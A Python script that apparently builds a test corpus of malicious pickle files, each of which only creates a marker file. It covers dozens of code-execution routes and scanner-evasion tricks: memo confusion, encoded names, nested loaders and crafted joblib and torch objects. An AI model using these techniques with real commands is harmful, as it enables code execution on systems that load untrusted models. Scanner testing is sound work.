#!/usr/bin/env python3
"""Writes pickles that run code or are broken, as one JSON file; every payload only creates the file `pickle-was-here`.

usage: bad.py FILE            writes {python, pickles: [{name, runs, packages, bytes (base64)}]}; each is loaded in a process of
                              its own to see whether it `runs`, and whether only with numpy, joblib and other `packages`
       bad.py --check FILE    loads each that is said to run without packages, and prints the names of those that do not
"""
import base64
import json
import os
import pickle
import shutil
import struct
import sys
import tempfile
import time

MARKER = 'pickle-was-here'
COMMAND = f'touch {MARKER}'
CODE = f"open('{MARKER}', 'w').close()"


# The assembler: each function gives the bytes of a few opcodes.
def short(text):
    data = text if isinstance(text, bytes) else text.encode()
    return b'\x8c' + bytes([len(data)]) + data


def proto(number):
    return b'\x80' + bytes([number])


def glob(module, name):
    return b'c' + module.encode() + b'\n' + name.encode() + b'\n'


def stack_global(module, name):
    return short(module) + short(name) + b'\x93'


def unicode_line(text):
    return b'V' + text.encode() + b'\n'


def binunicode(text):
    return b'X' + struct.pack('<I', len(text.encode())) + text.encode()


def binbytes(data):
    return b'B' + struct.pack('<I', len(data)) + data


def value(thing):
    """Any plain Python value as opcodes."""
    return pickle.dumps(thing, 3)[2:-1]


def reduce(function, *arguments):
    """Opcodes that call: arguments are opcodes too."""
    return function + b'(' + b''.join(arguments) + b'tR'


def framed(body):
    return proto(4) + b'\x95' + struct.pack('<Q', len(body)) + body


SYSTEM = glob('os', 'system')
RUN = reduce(SYSTEM, value(COMMAND))
INNER = proto(3) + RUN + b'.'


def forms():
    """The ways to make a call."""
    yield 'reduce-protocol-0', b'cos\nsystem\n(S' + repr(COMMAND).encode() + b'\ntR.'
    yield 'reduce-posix', proto(2) + reduce(glob('posix', 'system'), value(COMMAND)) + b'.'
    yield 'stack-global', proto(4) + reduce(stack_global('os', 'system'), value(COMMAND)) + b'.'
    yield 'stack-global-framed', framed(reduce(stack_global('os', 'system'), value(COMMAND)) + b'.')
    yield 'inst', b'(S' + repr(COMMAND).encode() + b'\nios\nsystem\n.'
    yield 'obj', b'(' + SYSTEM + value(COMMAND) + b'o.'
    yield 'newobj-popen', proto(2) + reduce(glob('subprocess', 'Popen'), value(['touch', MARKER])) + b'.'
    yield 'newobj-map', proto(2) + glob('builtins', 'bytes') + b'(' + glob('builtins', 'map') + b'(' + SYSTEM + value([COMMAND]) + b't\x81tR.'
    yield 'newobj-filter', proto(2) + glob('builtins', 'list') + b'(' + glob('builtins', 'filter') + b'(' + SYSTEM + value([COMMAND]) + b't\x81tR.'
    yield 'newobj-ex-map', proto(4) + glob('builtins', 'bytes') + b'(' + glob('builtins', 'map') + b'(' + SYSTEM + value([COMMAND]) + b't}\x92tR.'
    namespace = glob('types', 'SimpleNamespace') + b')\x81'
    yield 'build-setstate', proto(2) + namespace + b'}' + value('__setstate__') + SYSTEM + b'sb' + value(COMMAND) + b'b.'
    yield 'build-setstate-slots', proto(2) + namespace + b'N}' + value('__setstate__') + SYSTEM + b's\x86b' + value(COMMAND) + b'b.'
    yield 'append-attribute', proto(2) + namespace + b'}' + value('append') + SYSTEM + b'sb' + value(COMMAND) + b'a.'
    yield 'extend-attribute', proto(2) + namespace + b'}' + value('extend') + SYSTEM + b'sb(' + value(COMMAND) + b'e.'
    yield 'add-attribute', proto(4) + namespace + b'}' + value('add') + SYSTEM + b'sb(' + value(COMMAND) + b'\x90.'
    yield 'default-factory', proto(2) + glob('collections', 'defaultdict') + b'(' + glob('os', 'getcwd') + b'tR.'
    yield 'class-attribute', proto(2) + glob('types', 'SimpleNamespace') + b'N}' + value('__eq__') + SYSTEM + b's\x86b.'
    yield 'slot-state-of-function', proto(2) + glob('json', 'dumps') + b'N}' + value('__defaults__') + value((1,)) + b's\x86b.'
    yield 'own-class', proto(2) + reduce(glob('builtins', 'type'), value('T'), value(()), b'}' + value('__setstate__') + SYSTEM + b's') + b')\x81' + value(COMMAND) + b'b.'
    yield 'setitem-of-class', proto(2) + reduce(glob('collections', 'OrderedDict')) + b'}' + value('x') + SYSTEM + b's0' + RUN + b'.'


def stack_tricks():
    """Where the result goes, and how names are put together."""
    clean = value({'weights': [1, 2, 3]})
    yield 'popped', proto(2) + RUN + b'0' + clean + b'.'
    yield 'popped-to-mark', proto(2) + b'(' + RUN + b'1' + clean + b'.'
    yield 'decoy-before', proto(2) + clean + b'0' + RUN + b'.'
    yield 'decoy-imports', proto(2) + glob('collections', 'OrderedDict') + b'0' + glob('numpy', 'ndarray')[:0] + RUN + b'.'
    yield 'duplicated', proto(2) + value(COMMAND) + b'q\x000' + SYSTEM + b'2h\x00\x85R0h\x00\x85R.'
    yield 'memo-binput', proto(2) + SYSTEM + b'q\x050' + b'h\x05' + value(COMMAND) + b'\x85R.'
    yield 'memo-long-binput', proto(2) + SYSTEM + b'r\xff\xff\x01\x000' + b'j\xff\xff\x01\x00' + value(COMMAND) + b'\x85R.'
    yield 'memo-put-text', b'cos\nsystem\np7\n0g7\n(S' + repr(COMMAND).encode() + b'\ntR.'
    yield 'memo-put-plus', b'cos\nsystem\np+7\n0g7\n(S' + repr(COMMAND).encode() + b'\ntR.'
    # MEMOIZE counts the entries, so with gaps it writes over index 1, which a scanner that counts its own way does not see.
    confused = short('collections') + b'q\x010' + short('os') + b'\x940' + short('OrderedDict') + b'q\x020'
    yield 'memo-confusion', proto(4) + confused + b'h\x01' + short('system') + b'\x93' + value(COMMAND) + b'\x85R.'
    yield 'memo-overwrite', proto(4) + short('collections') + b'q\x000' + short('os') + b'q\x000h\x00' + short('system') + b'\x93' + value(COMMAND) + b'\x85R.'
    yield 'names-from-memo', proto(4) + short('system') + b'\x940' + short('os') + b'\x940h\x01h\x00\x93' + value(COMMAND) + b'\x85R.'
    yield 'names-binunicode', proto(4) + binunicode('os') + binunicode('system') + b'\x93' + value(COMMAND) + b'\x85R.'
    yield 'names-unicode-line', proto(4) + unicode_line('os') + unicode_line('system') + b'\x93' + value(COMMAND) + b'\x85R.'
    yield 'names-unicode-escape', proto(4) + b'V\\u006fs\n' + b'Vs\\u0079stem\n\x93' + value(COMMAND) + b'\x85R.'
    yield 'names-string', proto(4) + b"S'os'\nS'system'\n\x93" + value(COMMAND) + b'\x85R.'
    yield 'names-string-escape', proto(4) + b"S'\\x6fs'\nS'\\x73ystem'\n\x93" + value(COMMAND) + b'\x85R.'
    yield 'names-binstring', proto(4) + b'T\x02\x00\x00\x00osU\x06system\x93' + value(COMMAND) + b'\x85R.'
    yield 'names-binunicode8', proto(4) + b'\x8d' + struct.pack('<Q', 2) + b'os' + short('system') + b'\x93' + value(COMMAND) + b'\x85R.'
    computed = reduce(glob('builtins', 'str'), value(b'system'), value('ascii'))
    yield 'computed-name', proto(4) + short('os') + computed + b'\x93' + value(COMMAND) + b'\x85R.'
    yield 'computed-encode', proto(4) + short('os') + reduce(glob('codecs', 'decode'), value('flfgrz'), value('rot13')) + b'\x93' + value(COMMAND) + b'\x85R.'
    yield 'computed-join', proto(4) + short('os') + reduce(stack_global('builtins', 'str.join'), value(''), value(['sys', 'tem'])) + b'\x93' + value(COMMAND) + b'\x85R.'
    yield 'after-many-strings', proto(4) + b''.join(short(f'w{i}') + b'0' for i in range(600)) + reduce(stack_global('os', 'system'), value(COMMAND)) + b'.'
    yield 'names-long-ago', proto(4) + short('os') + short('system') + b''.join(short(f'w{i}') + b'0' for i in range(600)) + b'\x93' + value(COMMAND) + b'\x85R.'
    yield 'arguments-after-many', proto(4) + stack_global('os', 'system') + value((COMMAND,)) + b''.join(value((i, 'x')) + b'0' for i in range(600)) + b'R.'
    yield 'within-list', proto(2) + b']' + RUN + b'a.'
    yield 'within-dict-key', proto(2) + b'}' + RUN + value(1) + b's.'
    yield 'within-set', proto(4) + b'\x8f(' + RUN + b'\x90.'
    yield 'within-frozenset', proto(4) + b'(' + RUN + b'\x91.'
    yield 'mark-popped', proto(2) + b'(0' + RUN + b'.'
    yield 'deep-marks', proto(2) + b'(' * 1000 + RUN + b't' * 1000 + b'.'


def encodings():
    """What CPython takes and others refuse or overlook."""
    yield 'no-proto', reduce(stack_global('os', 'system'), value(COMMAND)) + b'.'
    yield 'proto-twice', proto(2) + proto(4) + RUN + b'.'
    yield 'proto-late', RUN + proto(4) + b'.'
    yield 'proto-lowered', proto(4) + proto(0) + reduce(glob('__builtin__', 'eval'), value(f"__import__('os').system('{COMMAND}')")) + b'.'
    yield 'proto-zero', proto(0) + reduce(glob('os', 'system'), value(COMMAND)) + b'.'
    yield 'integer-hexadecimal', b'I0x10\n0' + RUN + b'.'
    yield 'integer-underscore', b'I1_000\n0' + RUN + b'.'
    yield 'integer-spaces', b'I  7 \n0' + RUN + b'.'
    yield 'integer-octal', b'I0o17\n0' + RUN + b'.'
    yield 'integer-huge', b'I' + b'9' * 100 + b'\n0' + RUN + b'.'
    yield 'long-without-l', b'L12\n0' + RUN + b'.'
    yield 'long-hexadecimal', b'L0xffL\n0' + RUN + b'.'
    yield 'float-infinite', b'Finf\n0' + RUN + b'.'
    yield 'long1-empty', proto(2) + b'\x8a\x000' + RUN + b'.'
    yield 'long1-overlong', proto(2) + b'\x8a\xff' + b'\x01' * 255 + b'0' + RUN + b'.'
    yield 'string-with-name', b"S'collections\\nOrderedDict'\n0" + RUN + b'.'
    yield 'frame-short', proto(4) + b'\x95' + struct.pack('<Q', 3) + RUN + b'.'
    yield 'frame-twice', proto(4) + b'\x95' + struct.pack('<Q', 40) + b'\x95' + struct.pack('<Q', 3) + RUN + b'.'
    yield 'frame-empty', proto(4) + b'\x95' + struct.pack('<Q', 0) + RUN + b'.'
    yield 'second-pickle', pickle.dumps({'a': 1}, 4) + INNER
    yield 'second-pickle-numpy', pickle.dumps([1], 2) + b'\x00' * 8 + INNER
    yield 'bytes-after', pickle.dumps({'a': 1}, 2) + b'PK\x03\x04 anything'
    yield 'truncated-after-reduce', proto(2) + RUN
    yield 'truncated-in-string', proto(2) + RUN + b'X\xff\x00\x00\x00ab'
    yield 'truncated-in-frame', proto(4) + RUN + b'\x95' + struct.pack('<Q', 10**6) + b'K'
    yield 'bad-opcode-after', proto(2) + RUN + b'\xff\xff.'
    yield 'underflow-after', proto(2) + RUN + b'tR00000.'
    yield 'memo-missing-after', proto(2) + RUN + b'0h\x63.'
    yield 'huge-length-after', proto(4) + RUN + b'\x8e' + struct.pack('<Q', 2**62) + b'ab'
    yield 'negative-length-after', proto(1) + RUN + b'T\xff\xff\xff\xffab.'
    yield 'bytearray8', proto(5) + b'\x96' + struct.pack('<Q', 2) + b'ab0' + RUN + b'.'
    yield 'next-buffer', proto(5) + RUN + b'0\x97.'
    yield 'readonly-buffer', proto(5) + RUN + b'\x98.'
    yield 'extension', proto(2) + reduce(glob('copyreg', 'add_extension'), value('os'), value('system'), value(240)) + b'0\x82\xf0' + value(COMMAND) + b'\x85R.'
    yield 'extension-2', proto(2) + reduce(glob('copyreg', 'add_extension'), value('os'), value('system'), value(0x1234)) + b'0\x83\x34\x12' + value(COMMAND) + b'\x85R.'
    yield 'extension-4', proto(2) + reduce(glob('copyreg', 'add_extension'), value('os'), value('system'), value(0x12345)) + b'0\x84\x45\x23\x01\x00' + value(COMMAND) + b'\x85R.'
    yield 'extension-unknown', proto(2) + b'\x82\x01.'
    yield 'persistent-id', b'Pcos\n.'
    yield 'binary-persistent-id', proto(2) + value(('os', 'system')) + b'Q.'
    yield 'stack-left', proto(2) + value(1) + RUN + b'.'
    yield 'empty-lines', b'c\n\n.'
    yield 'carriage-return', b'cos\r\nsystem\n.'


def python_2():
    """Names of Python 2, which CPython maps below protocol 3."""
    expression = f"__import__('os').system('{COMMAND}')"
    yield 'eval', b'c__builtin__\neval\n(S' + repr(expression).encode() + b'\ntR.'
    yield 'reduce', b'c__builtin__\nreduce\n(cos\nsystem\n0' + RUN + b't0N.'
    yield 'apply-map', proto(2) + reduce(glob('builtins', 'list'), reduce(glob('itertools', 'imap'), SYSTEM, value([COMMAND]))) + b'.'
    yield 'commands', proto(2) + reduce(glob('commands', 'getoutput'), value(COMMAND)) + b'.'
    yield 'cpickle', proto(2) + reduce(glob('cPickle', 'loads'), reduce(glob('_codecs', 'encode'), value(INNER.decode('latin1')), value('latin1'))) + b'.'
    yield 'copy-reg', proto(2) + reduce(glob('copy_reg', 'add_extension'), value('os'), value('system'), value(241)) + b'0\x82\xf1' + value(COMMAND) + b'\x85R.'


def indirection():
    """Ways to a function that is not named."""
    os_module = reduce(glob('importlib', 'import_module'), value('os'))
    call = lambda function: function + value(COMMAND) + b'\x85R.'
    yield 'dotted-random', proto(4) + call(stack_global('random', '_os.system'))
    yield 'dotted-pathlib', proto(4) + call(stack_global('pathlib', 'os.system'))
    yield 'dotted-collections', proto(4) + call(stack_global('collections', 'abc.sys.modules.get'))
    yield 'dotted-argparse', proto(4) + call(stack_global('argparse', '_os.system'))
    yield 'dotted-global-opcode', proto(4) + call(glob('random', '_os.system'))
    yield 'dotted-uuid', proto(4) + call(stack_global('uuid', 'os.system'))
    yield 'dotted-decimal', proto(4) + call(stack_global('fractions', 'sys.modules.get'))
    yield 'dotted-dict-method', proto(4) + stack_global('collections', 'OrderedDict.fromkeys.__self__.__subclasses__') + b')R.'
    yield 'dotted-object', proto(4) + stack_global('builtins', 'object.__subclasses__') + b')R.'
    yield 'dotted-set', proto(4) + stack_global('builtins', 'set.__init__.__objclass__.__base__') + b'.'
    yield 'prefix-torch', proto(4) + call(stack_global('torch', 'os.system'))
    yield 'prefix-numpy', proto(4) + call(stack_global('numpy', 'f2py.os.system'))
    yield 'prefix-sklearn', proto(4) + call(stack_global('sklearn', 'os.system'))
    yield 'prefix-like', proto(4) + call(stack_global('numpyx', 'ndarray'))
    yield 'prefix-submodule', proto(4) + call(stack_global('collections.os', 'system'))
    yield 'import-getattr', proto(2) + call(reduce(glob('builtins', 'getattr'), os_module, value('system')))
    yield 'import-dunder', proto(2) + call(reduce(glob('builtins', 'getattr'), reduce(glob('builtins', '__import__'), value('os')), value('system')))
    yield 'getattr-of-allowed', proto(2) + call(reduce(glob('builtins', 'getattr'), glob('collections', 'OrderedDict'), value('__subclasses__')))
    yield 'getattr-of-instance', proto(2) + call(reduce(glob('builtins', 'getattr'), reduce(glob('collections', 'OrderedDict')), value('__class__')))
    yield 'getattr-globals', proto(2) + reduce(glob('builtins', 'getattr'), glob('copyreg', '_reconstructor'), value('__globals__')) + b'.'
    yield 'getattr-handed-over', proto(2) + reduce(glob('collections', 'defaultdict'), glob('builtins', 'getattr')) + b'.'
    yield 'getattr-in-state', proto(2) + glob('types', 'SimpleNamespace') + b')\x81}' + value('append') + glob('builtins', 'getattr') + b'sb.'
    yield 'attrgetter', proto(2) + call(reduce(reduce(glob('operator', 'attrgetter'), value('system')), os_module))
    yield 'methodcaller', proto(2) + reduce(reduce(glob('operator', 'methodcaller'), value('system'), value(COMMAND)), os_module) + b'.'
    yield 'itemgetter', proto(2) + call(reduce(reduce(glob('operator', 'itemgetter'), value('system')), glob('os', '__dict__'))) 
    yield 'underscore-operator', proto(2) + reduce(reduce(glob('_operator', 'methodcaller'), value('system'), value(COMMAND)), os_module) + b'.'
    yield 'resolve-name', proto(2) + call(reduce(glob('pkgutil', 'resolve_name'), value('os:system')))
    yield 'partial', proto(2) + reduce(reduce(glob('functools', 'partial'), SYSTEM, value(COMMAND))) + b'.'
    yield 'functools-reduce', proto(2) + reduce(glob('functools', 'reduce'), glob('operator', 'call') if sys.version_info >= (3, 11) else glob('builtins', 'map'), b'(' + SYSTEM + value(COMMAND) + b't') + b'.'
    yield 'starmap', proto(2) + reduce(glob('builtins', 'list'), reduce(glob('itertools', 'starmap'), SYSTEM, value([(COMMAND,)]))) + b'.'
    yield 'sorted-key', proto(2) + reduce(stack_global('builtins', 'sorted'), value([COMMAND]))[:-2] + b't}' + value('key') + SYSTEM + b's\x86' + b'0N.'
    yield 'iter-callable', proto(2) + reduce(glob('builtins', 'list'), reduce(glob('builtins', 'iter'), reduce(glob('functools', 'partial'), SYSTEM, value(COMMAND)), value(0))) + b'.'
    yield 'max-key', proto(4) + glob('builtins', 'bytes') + b'(' + glob('builtins', 'map') + b'(' + SYSTEM + value([COMMAND]) + b'tRtR.'
    yield 'thread', proto(2) + reduce(glob('_thread', 'start_new_thread'), SYSTEM, value((COMMAND,))) + b'0' + reduce(glob('time', 'sleep'), value(0.3)) + b'.'
    yield 'subclass-hook', proto(2) + reduce(glob('builtins', 'type'), value('T'), b'(' + glob('builtins', 'object') + b't', b'}') + b'.'
    yield 'type-of', proto(2) + reduce(glob('builtins', 'type'), reduce(glob('collections', 'OrderedDict'))) + b'.'
    yield 'ufunc-import', proto(2) + call(reduce(glob('numpy.core', '_ufunc_reconstruct'), value('os'), value('system')))
    yield 'scalar-identity', proto(2) + call(reduce(glob('numpy.core.multiarray', 'scalar'), reduce(glob('numpy', 'dtype'), value('O8')), SYSTEM))
    yield 'reconstructor-of-global', proto(2) + reduce(glob('copyreg', '_reconstructor'), glob('subprocess', 'Popen'), glob('builtins', 'object'), b'N') + b'.'
    yield 'newobj-function', proto(2) + reduce(glob('copyreg', '__newobj__'), glob('subprocess', 'Popen')) + b'.'
    yield 'ctypes', proto(2) + reduce(reduce(glob('builtins', 'getattr'), reduce(glob('ctypes', 'CDLL'), b'N'), value('system')), value(COMMAND.encode())) + b'.'
    yield 'marshal', proto(3) + reduce(reduce(glob('types', 'FunctionType'), reduce(glob('marshal', 'loads'), value(__import__('marshal').dumps(compile(CODE, '', 'exec')))), b'}' + value('__builtins__') + reduce(glob('builtins', 'vars'), reduce(glob('builtins', '__import__'), value('builtins'))) + b's')) + b'.'


def nested():
    """Pickles within pickles."""
    for module, name in [('pickle', 'loads'), ('_pickle', 'loads'), ('pickle', '_loads'), ('dill', 'loads'), ('dill._dill', 'loads'), ('cloudpickle', 'loads'), ('cloudpickle.cloudpickle', 'loads'), ('pandas.compat.pickle_compat', 'loads'), ('shelve', 'loads')]:
        yield f'{module}-{name}', proto(3) + reduce(glob(module, name), value(INNER)) + b'.'
    stream = reduce(glob('_io', 'BytesIO'), value(INNER))
    for module, name in [('pickle', 'load'), ('_pickle', 'load'), ('joblib', 'load'), ('numpy', 'load'), ('pandas', 'read_pickle'), ('torch', 'load'), ('torch.serialization', 'load')]:
        yield f'{module}-{name}', proto(3) + reduce(glob(module, name), stream) + b'.'
    yield 'torch-bytes', proto(3) + reduce(glob('torch.storage', '_load_from_bytes'), value(INNER)) + b'.'
    yield 'torch-bytes-from-memo', proto(3) + value(INNER) + b'q\x010' + reduce(glob('torch.storage', '_load_from_bytes'), b'h\x01') + b'.'
    yield 'unpickler', proto(3) + reduce(reduce(glob('builtins', 'getattr'), reduce(glob('pickle', 'Unpickler'), stream), value('load'))) + b'.'


def gadgets():
    """Functions that run code, processes or files; not all of them run everywhere."""
    python = ['-c', CODE]
    calls = {
        'builtins.eval': (f"__import__('os').system('{COMMAND}')",), 'builtins.exec': (CODE,), 'builtins.open': (MARKER, 'w'),
        'builtins.compile': (CODE, '', 'exec'), 'builtins.breakpoint': (), 'builtins.input': (), 'builtins.print': ('x',),
        'os.popen': (COMMAND,), 'os.spawnlp': (0, 'touch', 'touch', MARKER), 'os.mkdir': (MARKER,), 'os.remove': ('nothing',),
        'os.posix_spawnp': ('touch', ['touch', MARKER], {}), 'posix.mkdir': (MARKER,), 'subprocess.call': (['touch', MARKER],), 'subprocess.run': (['touch', MARKER],),
        'subprocess.check_output': (['touch', MARKER],), 'subprocess.getoutput': (COMMAND,), 'subprocess.getstatusoutput': (COMMAND,),
        'io.open': (MARKER, 'w'), '_io.FileIO': (MARKER, 'w'), 'codecs.open': (MARKER, 'w'), 'tokenize.open': ('/etc/hostname',), 'shutil.copyfile': ('/etc/hostname', MARKER),
        'shutil.rmtree': ('nothing', True), 'logging.FileHandler': (MARKER,), 'zipfile.ZipFile': (MARKER, 'w'), 'sqlite3.connect': (MARKER,), 'dbm.dumb.open': (MARKER,), 'shelve.open': (MARKER,),
        'runpy._run_code': (compile, CODE), 'runpy.run_path': ('nothing',), 'runpy.run_module': ('this',), 'timeit.timeit': (CODE, 'pass', 0, 1), 'timeit.main': ([CODE],), 'timeit.repeat': (CODE, 'pass', 0, 1, 1),
        'cProfile.run': (CODE,), 'profile.run': (CODE,), 'cProfile.runctx': (CODE, {}, {}), 'pdb.run': (CODE,), 'bdb.Bdb': (), 'trace.main': (), 'doctest.debug_src': (CODE,), 'doctest.testfile': ('x',),
        'code.interact': (), 'codeop.compile_command': (CODE,), 'pty.spawn': (['touch', MARKER],), 'pydoc.pipepager': ('x', COMMAND), 'pydoc.tempfilepager': ('x', COMMAND), 'imaplib.IMAP4_stream': (COMMAND,),
        'uuid._get_command_stdout': ('touch', MARKER), '_osx_support._read_output': (COMMAND,), '_osx_support._find_build_tool': ('x',), '_aix_support._read_cmd_output': (COMMAND,), '_bootsubprocess.check_output': (['touch', MARKER],),
        'distutils.spawn.spawn': (['touch', MARKER],), 'distutils.file_util.write_file': (MARKER, []), 'setuptools._distutils.spawn.spawn': (['touch', MARKER],), 'ensurepip._run_pip': (['--version'],), 'ensurepip.bootstrap': (), 'venv.create': (MARKER,),
        'pip.main': (['--version'],), 'pip._internal.cli.main.main': (['--version'],), 'lib2to3.pgen2.grammar.Grammar': (), 'lib2to3.pgen2.pgen.ParserGenerator': (), 'idlelib.pyshell.ModifiedInterpreter': (), 'idlelib.autocomplete.AutoComplete': (), 'idlelib.calltip.get_entity': (CODE,), 'idlelib.run.Executive': (), 'idlelib.debugobj.ObjectTreeItem': (),
        'asyncio.unix_events._UnixSubprocessTransport._start': (), 'asyncio.create_subprocess_shell': (COMMAND,), 'asyncio.run': (), 'multiprocessing.util.spawnv_passfds': (b'/bin/sh', [b'sh', b'-c', COMMAND.encode()], ()), 'multiprocessing.Process': (), 'concurrent.futures.ThreadPoolExecutor': (),
        'test.support.script_helper.assert_python_ok': tuple(python), 'test.support.run_in_subinterp': (CODE,), 'unittest.mock._importer': ('this',), 'unittest.main': (), 'dataclasses._create_fn': ('f', (), [CODE]), 'rlcompleter.Completer': ({},), 'typing.ForwardRef': ('x',),
        'xml.etree.ElementTree.parse': ('/etc/hostname',), 'urllib.request.urlopen': ('file:///etc/hostname',), 'urllib.request.urlretrieve': ('file:///etc/hostname', MARKER), 'ssl.get_server_certificate': (('127.0.0.1', 9),), 'socket.create_connection': (('127.0.0.1', 9),), 'http.client.HTTPConnection': ('127.0.0.1',), 'smtplib.SMTP': (), 'webbrowser.open': ('x',),
        'ctypes.CDLL': ('libc.so.6',), 'ctypes.cdll.LoadLibrary': ('libc.so.6',), 'gc.get_objects': (), 'sys.setprofile': (None,), 'sys.modules.clear': (), 'sys.exit': (), 'signal.alarm': (0,), 'atexit.register': (print,), 'site.addsitedir': ('.',), 'py_compile.compile': ('/etc/hostname',), 'compileall.compile_dir': ('.',), 'importlib.reload': (), 'importlib.machinery.SourceFileLoader': ('x', 'y'), 'zipimport.zipimporter': ('x',), 'faulthandler.dump_traceback': (), '_xxsubinterpreters.create': (), '_interpreters.create': (), '_testcapi.run_in_subinterp': (CODE,), 'platform._syscmd_file': ('x',), 'cgitb.lookup': (), 'antigravity.geohash': (), 'this.s': (), 'tkinter.Tcl': (), 'turtle.Screen': (),
        'numpy.f2py.crackfortran.getlincoef': (f"__import__('os').system('{COMMAND}')", {'a'}), 'numpy.f2py.crackfortran.param_eval': ('1',), 'numpy.f2py.crackfortran._eval_length': ('1', {}), 'numpy.testing._private.utils.runstring': (CODE, {}), 'numpy.testing._private.utils.exec_mod_from_location': ('m', 'f'), 'numpy.memmap': (MARKER, 'uint8', 'w+', 0, (1,)), 'numpy.fromfile': ('/etc/hostname',), 'numpy.save': (MARKER, [1]), 'numpy.savetxt': (MARKER, [1]), 'numpy.DataSource': (), 'numpy.vectorize': (print,), 'numpy.frompyfunc': (print, 1, 1), 'numpy.apply_along_axis': (print, 0, [1]), 'numpy.distutils.exec_command.exec_command': (COMMAND,),
        'pandas.eval': ('1',), 'pandas.read_csv': ('/etc/hostname',), 'pandas.DataFrame.eval': (), 'pandas.core.computation.eval.eval': ('1',), 'pandas.io.common.get_handle': (MARKER, 'w'), 'scipy.io.loadmat': ('x',), 'scipy.LowLevelCallable': (), 'scipy.stats._continuous_distns.norm_gen': (), 'sklearn.datasets.load_files': ('.',), 'sklearn.datasets.fetch_openml': ('x',), 'sklearn.utils._joblib.load': ('x',), 'sklearn.utils.parallel._FuncWrapper': (print,), 'joblib.memory.Memory': (MARKER,), 'joblib._parallel_backends.SafeFunction': (print,), 'joblib.externals.loky.get_reusable_executor': (), 'xgboost.core.Booster': (None, (), 'x'), 'lightgbm.basic.Booster': (None, None, 'x'), 'catboost.core.Pool': ('x',),
        'torch.hub.load': ('a/b', 'c'), 'torch.utils.cpp_extension.load': ('x', 'y'), 'torch.utils._config_module.ConfigModule.load_config': (b'x',), 'torch.utils.bottleneck.__main__.run_autograd_prof': (CODE, {}), 'torch.utils.collect_env.run': (COMMAND,), 'torch._dynamo.guards.GuardBuilder.get': ('1',), 'torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression': ('1',), 'torch.fx.graph_module.reduce_graph_module': ({}, ''), 'torch.fx._symbolic_trace.Tracer': (), 'torch.jit._serialization.load': ('x',), 'torch.jit.unsupported_tensor_ops.execWrapper': (CODE, {}, {}), 'torch.package.PackageImporter': ('x',), 'torch._inductor.codecache.compile_file': ('x',), 'torch.distributed.rpc.internal._InternalRPCPickler': (), 'torch.multiprocessing.reductions.rebuild_storage_filename': ('x',), 'torch.ops.load_library': ('x',), 'torch.classes.load_library': ('x',), 'torch._utils._import_dotted_name': ('os.system',),
        'tensorflow.raw_ops.ReadFile': ('x',), 'keras.models.load_model': ('x',), 'transformers.pipeline': ('x',), 'django.utils.module_loading.import_string': ('os.system',), 'jax._src.api.jit': (), '__main__.run': (), 'nt.system': (COMMAND,), 'winreg.CreateKey': (), 'os._wrap_close': (), 'functools.partialmethod': (), 'functools.singledispatch': (), 'operator.call': (), 'contextlib.ExitStack': (), 'weakref.finalize': (), 'string.Formatter': (), 'str.system': (), 'copyreg.pickle': (), 'copyreg.constructor': (), 'types.CodeType': (), 'types.MethodType': (), 'types.ModuleType': ('x',), 'builtins.globals': (), 'builtins.vars': (), 'builtins.delattr': (), 'builtins.setattr': (), 'builtins.super': (), 'builtins.property': (), 'builtins.classmethod': (), 'builtins.memoryview': (b'',), 'pickletools.optimize': (b'.',), 'ast.literal_eval': ('1',), 'inspect.getsource': (), 'linecache.getlines': ('/etc/hostname',), 'fileinput.input': (), 'glob.glob': ('*',), 'tempfile.mkdtemp': (), 'pathlib.Path.write_text': (), 'pathlib.Path.unlink': (), 'getpass.getpass': (), 'telnetlib.Telnet': (), 'ftplib.FTP': (), 'poplib.POP3': (), 'nntplib.NNTP': (), 'xmlrpc.client.ServerProxy': ('http://127.0.0.1:9',),
    }
    for label, arguments in calls.items():
        module, name = split(label)
        try:
            data = value(arguments)
        except Exception:
            data = b')'
        yield label, proto(4) + stack_global(module, name) + data + b'R.'


def split(label):
    """module and qualified name: the module ends before the first part that is a class, or the last."""
    parts = label.split('.')
    for index, part in enumerate(parts[1:], 1):
        if part[:1].isupper() or part in ('cdll', 'modules', 'ops', 'classes') and index < len(parts) - 1:
            return '.'.join(parts[:index]), '.'.join(parts[index:])
    return '.'.join(parts[:-1]), parts[-1]


def states():
    """Allowed classes with states that run code."""
    template = f"{CODE}\ndef _parse_args(self): pass\ndef _parse_args_rvs(self): pass\ndef _parse_args_stats(self): pass"
    state = value({'_parse_arg_template': template, 'numargs': 0, 'moment_type': 0, 'shapes': ''})
    yield 'scipy-distribution', proto(3) + glob('scipy.stats._continuous_distns', 'norm_gen') + b')\x81' + state + b'b.'
    wrapper = glob('joblib.numpy_pickle', 'NumpyArrayWrapper') + b')\x81'
    dtype = lambda code, flags, size=-1: reduce(glob('numpy', 'dtype'), value(code), value(False), value(True)) + b'(K\x03' + value('<') + b'NNN' + value(size) + value(-1) + value(flags) + b'tb'

    def array(dtype_opcodes, shape=(2,), extra=b'', before=b''):
        return (proto(3) + wrapper + before + b'}(' + value('subclass') + glob('numpy', 'ndarray') + value('shape') + value(shape) + value('order') + value('C') + value('dtype') + dtype_opcodes
            + value('allow_mmap') + value(False) + extra + b'ub')
    yield 'joblib-objects', array(dtype('O8', 63)) + INNER + b'.'
    yield 'joblib-raw-hides-opcodes', array(dtype('u1', 0), (len(RUN) + 2,)) + RUN + b'0N' + b'.'
    yield 'joblib-lying-flags', array(dtype('f8', 1), (1,)) + INNER + b'.'
    yield 'joblib-objects-as-numbers', array(dtype('O8', 0), (1,)) + b'\x00' * 8 + b'.'
    yield 'joblib-unknown-shape', array(dtype('u1', 0), ('x',)) + RUN + b'.'
    yield 'joblib-negative-shape', array(dtype('u1', 0), (-5,)) + RUN + b'.'
    yield 'joblib-read-attribute', array(dtype('u1', 0), (64,), value('read') + glob('builtins', 'len')) + RUN + b'.'
    yield 'joblib-shape-twice', array(dtype('u1', 0), (64,), value('shape') + value((0,))) + RUN + b'.'
    yield 'joblib-padding', array(dtype('u1', 0), (1,), value('numpy_array_alignment_bytes') + value(16)) + bytes([len(RUN) + 1]) + RUN + b'0' + b'\x00' + b'N.'
    yield 'joblib-padding-content', array(dtype('u1', 0), (0,), value('numpy_array_alignment_bytes') + value(16)) + b'\x03N0NN.'
    yield 'joblib-two-ways', proto(3) + b'}q\x010' + array(dtype('u1', 0), (64,), b'', b'h\x010')[2:] + RUN + b'.'
    yield 'joblib-wrapper-handed-over', proto(2) + glob('joblib.numpy_pickle', 'NumpyArrayWrapper') + b'0' + reduce(glob('collections', 'defaultdict'), glob('joblib.numpy_pickle', 'NumpyArrayWrapper')) + b'.'
